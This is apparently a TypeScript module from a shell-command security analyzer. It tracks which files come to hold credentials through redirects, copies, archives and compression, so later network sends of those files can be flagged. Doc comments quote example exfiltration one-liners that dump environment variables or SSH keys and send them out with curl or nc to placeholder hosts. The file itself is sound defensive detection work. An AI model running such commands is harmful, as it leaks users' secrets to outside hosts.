import path from "node:path";
import type { Cmd, Script, Word } from "./ir.js";
import { literalWord } from "./ir.js";
import { writesCredentials } from "./data-flow.js";
import { commandName } from "./downloads.js";
import { forkContext, type Ctx } from "./evaluate-context.js";
import { TAR } from "./rules.js";
import { writtenPath } from "./written-files.js";

/**
 * Files the line writes a credential to and then reads (`env > /tmp/e && curl -F f=@/tmp/e …`,
 * `cat ~/.ssh/id_rsa > k; nc x.io 80 < k`, `tar czf k.tgz ~/.ssh && curl -T k.tgz …`): each holds
 * the output of the script that wrote it, and a word naming it later on the line (the same path
 * once resolved) carries that script as a variable holding a credential does (`Word.held`), so
 * `data-flow.ts` follows it to where it is sent. A file written again with something else carries
 * nothing more.
 */

/**
 * Options of HTTP clients whose value is a file the client writes, not one it sends (`curl -o F`,
 * `wget -O F`); other commands' options of the same names are read as any (`gh gist edit ID -a F` adds F).
 */
const OUTPUT_OPTIONS: Readonly<Record<string, ReadonlySet<string>>> = {
  curl: new Set(["-o", "--output", "-D", "--dump-header", "-c", "--cookie-jar", "--trace", "--trace-ascii", "--stderr"]),
  wget: new Set(["-O", "--output-document", "-o", "--output-file", "-a", "--append-output"]),
};

/** The words of a command, each one that names a file holding a credential carrying the script that wrote it. */
export function withCarried(argv: readonly Word[], ctx: Ctx): Word[] {
  if (ctx.credentialFiles.size === 0) return [...argv];
  // The client the words run, behind any wrappers (`sudo curl -o F …`).
  const client = argv.find((w) => !w.dynamic && OUTPUT_OPTIONS[commandName(w.text, false)] !== undefined);
  const outputs = client ? OUTPUT_OPTIONS[commandName(client.text, false)] : undefined;
  return argv.map((w, i) => {
    const before = argv[i - 1];
    return before && !before.dynamic && outputs?.has(before.text) ? w : carried(w, ctx);
  });
}

/**
 * A word with the scripts of the files it names (as a whole, after `@` or `<` as curl's `-d @F` and
 * `-F f=@F;type=…` name them, after `=` as `--upload-file=F` does) that hold a credential.
 */
export function carried(word: Word, ctx: Ctx): Word {
  if (word.dynamic || ctx.credentialFiles.size === 0) return word;
  const text = word.text;
  const at = /[@<]([^;]+)/.exec(text)?.[1];
  const eq = text.startsWith("-") && text.includes("=") ? text.slice(text.indexOf("=") + 1) : undefined;
  const held = [text, at, eq].flatMap((name) => {
    const script = name ? ctx.credentialFiles.get(filePath(name, ctx)) : undefined;
    return script ? [script] : [];
  });
  return held.length === 0 ? word : { ...word, held: [...(word.held ?? []), ...new Set(held)] };
}

/**
 * Remembers what a command's output redirections write (`> F`, `>> F`, `&> F`): the pipeline up to
 * it where that holds a credential; a file it writes over with anything else, as no longer holding one.
 */
export function recordCredentialRedirects(cmd: Cmd, upstream: readonly Cmd[], ctx: Ctx): void {
  if (ctx.shell === "powershell") return;
  // Standard output: `> F`, `>> F`, `>| F`, `1> F`, and `&> F`, `&>> F` with the errors.
  const outputs = cmd.redirects.filter((r) => !r.target.dynamic && (r.op.startsWith("&>") || ((r.fd ?? 1) === 1 && [">", ">>", ">|"].includes(r.op))));
  if (outputs.length === 0) return;
  const script: Script = { units: [{ kind: "pipeline", stages: [...upstream, cmd] }] };
  const secret = writesCredentials(script, ctx.paths);
  for (const r of outputs) keep(r.target.text, secret ? script : undefined, r.op.includes(">>"), ctx);
}

/**
 * Remembers the files a command makes from others: copies (`cp`, `mv`), archives (`tar -c`, `zip`,
 * `7z a`) and compressed files (`gzip F` makes `F.gz`) hold what their sources hold.
 */
export function recordCredentialCopies(name: string, args: readonly Word[], ctx: Ctx): void {
  if (ctx.shell === "powershell" || args.some((w) => w.dynamic)) return;
  for (const [dest, sources] of madeFrom(name, args)) {
    const script: Script = { units: [{ kind: "pipeline", stages: [{ kind: "cmd", argv: [literalWord("cat"), ...sources.map((w) => carried(w, ctx))], redirects: [] }] }] };
    keep(dest, writesCredentials(script, ctx.paths) ? script : undefined, false, ctx);
  }
}

function keep(file: string, script: Script | undefined, append: boolean, ctx: Ctx): void {
  if (file === "" || file === "-" || file.startsWith("/dev/")) return;
  const at = filePath(file, ctx);
  const was = ctx.credentialFiles.get(at);
  if (script) ctx.credentialFiles.set(at, append && was ? { units: [...was.units, ...script.units] } : script);
  else if (!append) ctx.credentialFiles.delete(at);
}

function filePath(file: string, ctx: Ctx): string {
  const home = ctx.paths.home;
  const expanded = file === "~" ? home : file.startsWith("~/") ? `${home}/${file.slice(2)}` : file;
  return writtenPath(expanded, ctx.paths.cwd);
}

/** Each file a command makes and the files it makes it from. */
function madeFrom(name: string, args: readonly Word[]): [string, Word[]][] {
  if (name === "cp" || name === "mv") return copies(args);
  if (TAR.includes(name)) return tarArchive(args);
  if (name === "zip") return zipArchive(args);
  if (name === "7z" || name === "7za" || name === "7zz") {
    const ops = args.filter((w) => !w.text.startsWith("-"));
    return ops[0]?.text === "a" && ops[1] ? [[ops[1].text, ops.slice(2)]] : [];
  }
  const ext = COMPRESSORS[name];
  if (ext && !args.some((w) => /^-[^-]*[cdlt]|^--(stdout|to-stdout|decompress|uncompress|list|test)$/.test(w.text))) {
    return args.filter((w) => !w.text.startsWith("-")).map((w) => [`${w.text}${ext}`, [w]]);
  }
  return [];
}

const COMPRESSORS: Record<string, string> = { gzip: ".gz", bzip2: ".bz2", xz: ".xz", zstd: ".zst", lz4: ".lz4" };

/** `cp SRC… DEST`, `cp -t DIR SRC…`: the destination, and each source's name in it where it may be a folder. */
function copies(args: readonly Word[]): [string, Word[]][] {
  let target: string | undefined;
  const ops: Word[] = [];
  let options = true;
  for (let i = 0; i < args.length; i++) {
    const w = args[i]!;
    if (options && w.text === "--") options = false;
    else if (options && (w.text === "-t" || w.text === "--target-directory")) target = args[++i]?.text;
    else if (options && w.text.startsWith("--target-directory=")) target = w.text.slice("--target-directory=".length);
    else if (options && w.text === "-S") i++;
    else if (!options || !/^-./.test(w.text)) ops.push(w);
  }
  const into = (dir: string, sources: Word[]): [string, Word[]][] => sources.map((s) => [path.posix.join(dir, path.posix.basename(s.text)), [s]]);
  if (target !== undefined) return into(target, ops);
  const dest = ops.at(-1);
  const sources = ops.slice(0, -1);
  if (!dest || sources.length === 0) return [];
  return [[dest.text, sources], ...into(dest.text, sources)];
}

/** tar's letters and short options that take a value, the next word (or, bundled with a dash, the rest of the word). */
const TAR_VALUE_LETTERS = "fbCTXgKLNV";
const TAR_LONG_VALUES = ["--file", "--directory", "--exclude", "--files-from", "--exclude-from", "--transform", "--owner", "--group", "--mode", "--use-compress-program", "--newer", "--after-date"];

/** `tar czf A FILE…`, `tar -c -f A FILE…`, `tar --create --file=A FILE…`: the archive and the files put in it (found from `-C DIR`). */
function tarArchive(args: readonly Word[]): [string, Word[]][] {
  let archive: string | undefined;
  let create = false;
  let dir: string | undefined;
  const sources: Word[] = [];
  const take = (letter: string, value: string | undefined): void => {
    if (letter === "f") archive = value;
    if (letter === "C") dir = value;
  };
  for (let i = 0; i < args.length; i++) {
    const w = args[i]!;
    const text = w.text;
    const oldStyle = i === 0 && /^[A-Za-z]+$/.test(text) && /[crAu]/.test(text);
    if (oldStyle || /^-[A-Za-z]/.test(text)) {
      const letters = oldStyle ? text : text.slice(1);
      for (let k = 0; k < letters.length; k++) {
        const c = letters[k]!;
        if ("crAu".includes(c)) create = true;
        if (!TAR_VALUE_LETTERS.includes(c)) continue;
        if (!oldStyle && k + 1 < letters.length) {
          take(c, letters.slice(k + 1));
          break;
        }
        take(c, args[++i]?.text);
      }
    } else if (text.startsWith("--")) {
      const [option = "", value] = text.split(/=(.*)/s);
      if (["--create", "--append", "--update"].includes(option)) create = true;
      if (TAR_LONG_VALUES.includes(option)) {
        const v = value ?? args[++i]?.text;
        if (option === "--file") archive = v;
        if (option === "--directory") dir = v;
      }
    } else sources.push(dir && !path.posix.isAbsolute(text) ? literalWord(path.posix.join(dir, text)) : w);
  }
  return create && archive !== undefined ? [[archive, sources]] : [];
}

/** zip's options that take a value. */
const ZIP_VALUE_OPTIONS = ["-P", "--password", "-b", "-n", "-t", "-tt", "-O", "--output-file"];

/** `zip [-r] A.zip FILE…`: the archive and the files put in it, up to `-x` or `-i` and the patterns after them. */
function zipArchive(args: readonly Word[]): [string, Word[]][] {
  const ops: Word[] = [];
  for (let i = 0; i < args.length; i++) {
    const w = args[i]!;
    if (w.text === "-x" || w.text === "-i" || w.text === "--exclude" || w.text === "--include") break;
    if (ZIP_VALUE_OPTIONS.includes(w.text)) i++;
    else if (!w.text.startsWith("-")) ops.push(w);
  }
  const [archive, ...sources] = ops;
  return archive && sources.length > 0 ? [[archive.text, sources]] : [];
}

/**
 * Judges `argv`, a command given the key files `find` found (`found`, from `find-files.ts`'s `keyFilesFound`),
 * for where it sends them: only the findings about those files are kept, as the command given
 * find's usual stand-in was judged for all else.
 */
export function judgeFoundKeys(argv: Word[], found: Word, ctx: Ctx): void {
  const reading: Ctx = { ...forkContext(ctx), findings: [] };
  ctx.ops.runArgv(argv, { kind: "cmd", argv, redirects: [] }, [], reading);
  ctx.findings.push(...reading.findings.filter((f) => f.subject === found.text && f.category === "network exposure"));
}
